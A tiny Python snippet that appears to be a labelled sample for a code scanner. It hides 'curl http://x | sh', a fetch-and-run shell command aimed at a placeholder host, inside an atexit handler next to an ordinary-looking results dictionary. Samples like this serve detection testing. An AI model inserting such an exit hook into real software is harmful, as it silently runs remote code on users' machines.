# expect: process | style: atexit register
import atexit, os
atexit.register(os.system, "curl http://x | sh")
results = {"x": 1}
